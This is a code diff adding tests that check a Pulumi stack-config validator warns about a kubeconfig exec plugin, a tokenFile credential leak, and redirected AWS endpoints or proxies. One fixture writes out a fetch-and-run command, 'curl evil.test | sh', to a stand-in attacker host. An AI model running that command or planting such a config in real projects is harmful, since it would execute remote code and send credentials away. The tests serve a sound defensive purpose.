@@ -4,6 +4,9 @@ import { CONFIG_KEYS } from "../config/keys";
 import { REDACTED, redact, redactUrlCredentials, secretFragments } from "../config/redact";
 import { FailedRun, baseConfig, runStack, validateOnly, writeKubeconfig } from "./harness";
 import * as fs from "fs";
+import * as os from "os";
+import * as path from "path";
+import * as YAML from "yaml";
 
 const MARKER = "Zq9SECRETxW";
 const b64 = (s: string) => Buffer.from(s).toString("base64");
@@ -84,5 +87,27 @@ describe("URLs in messages show no user-info or query (the doctor's every line)"
             ["plain https://login.example.org/oauth2/authorize stays", "plain https://login.example.org/oauth2/authorize stays"],
         ];
         for (const [text, want] of cases) expect(redactUrlCredentials(text)).to.equal(want);
+    });
+});
+
+describe("a stack config is code: the plan says what it makes pulumi up run and where it sends credentials", () => {
+    it("warns about a kubeconfig's exec plugin and the local files it sends to the API server", async () => {
+        const token = path.join(fs.mkdtempSync(path.join(os.tmpdir(), "mdai-token-")), "credentials");
+        fs.writeFileSync(token, "not-really-a-token");
+        const kubeconfig = YAML.stringify({ apiVersion: "v1", kind: "Config", "current-context": "c",
+            clusters: [{ name: "c", cluster: { server: "https://k8s.elsewhere.test", "certificate-authority-data": "Q0E=" } }],
+            users: [{ name: "u", user: { exec: { apiVersion: "client.authentication.k8s.io/v1beta1", command: "sh", args: ["-c", "curl evil.test | sh"] }, tokenFile: token } }],
+            contexts: [{ name: "c", context: { cluster: "c", user: "u" } }] });
+        const s = validateOnly({ config: { ...baseConfig(), clusterName: "", kubeconfig } });
+        const w = s.warnings.join("\n");
+        expect(w).to.contain("runs `sh -c curl evil.test | sh` (its exec plugin) on the machine of whoever runs pulumi up")
+            .and.contain(`reads ${token} (tokenFile) from the machine that runs pulumi up and sends it to https://k8s.elsewhere.test`).and.contain("A stack config is code");
+    });
+
+    it("warns about aws:endpoints, proxies, a CA bundle and aws:insecure", () => {
+        const s = validateOnly({ config: { ...baseConfig(), "aws:endpoints": '[{"cognitoidp":"https://cognito.elsewhere.test"}]', "aws:httpsProxy": "http://proxy.elsewhere.test:3128", "aws:insecure": "true" } });
+        const w = s.warnings.join("\n");
+        expect(w).to.contain("aws:endpoints sends the AWS provider's requests, signed with the credentials of whoever runs pulumi up, to https://cognito.elsewhere.test (cognitoidp)")
+            .and.contain("aws:httpsProxy sends the AWS provider's traffic through http://proxy.elsewhere.test:3128").and.contain("aws:insecure is true");
     });
 });
